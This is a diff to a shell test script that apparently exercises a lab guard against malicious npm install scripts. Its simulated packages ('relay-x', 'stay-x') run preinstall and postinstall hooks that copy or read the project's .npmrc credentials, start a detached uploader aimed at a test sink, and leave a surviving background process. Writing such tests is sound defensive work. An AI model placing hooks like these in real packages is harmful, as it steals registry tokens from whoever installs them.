@@ -9,6 +9,8 @@ cd "$(dirname "$0")/../.." || exit 2
 
 rt_begin M05 'one record for a package'
 RT_SCRIPTED=()
+# Of a configuration without a token, which packages may read, and are then not trusted as before.
+rt_setup() { lab_as_user "$RT_PROJECT" sh -c 'echo fund=false >.npmrc'; }
 
 # ---- preinstall leaves a helper; postinstall reads the npmrc and hands it over by a file; the
 # helper uploads 400 KB. Another package's postinstall is killed for a secret: so is its helper.
@@ -48,7 +50,7 @@ two_scripts() { # NAME PREINSTALL POSTINSTALL
 		cat "$LAB/p.json" >"$LAB/packages/$1/package.json" && lab_publish "$LAB/packages/$1"
 }
 two_scripts relay-x "RT_SINK=$RT_SINK setsid node relay.js upload >/dev/null 2>&1 & sleep 0.3" \
-	'cp ~/.npmrc found; sleep 1'
+	'cp "$INIT_CWD/.npmrc" found; sleep 1'
 RT_ATTACKERS[-1]='relay-x 1.0.1 preinstall'
 rt_control relay
 rt_ok 'the helper has sent 400 KB' rt_eventually 5 [ "$(lab_sink web bytes)" -gt 400000 ]
@@ -85,7 +87,8 @@ if rt_guarded telemetry; then
 		rt_events event.action=leftover package.name=telemetry-x
 fi
 RT_DEPENDENCIES=() RT_ATTACKERS=()
-rt_package stay-x 1.0.0 - postinstall 'cat ~/.npmrc >/dev/null; setsid sleep 30 >/dev/null 2>&1 &'
+rt_package stay-x 1.0.0 - postinstall \
+	'cat "$INIT_CWD/.npmrc" >/dev/null; setsid sleep 30 >/dev/null 2>&1 &'
 rt_control stay
 rt_ok 'it outlives npm' [ -n "$(lab_survivors)" ]
 if rt_guarded stay; then
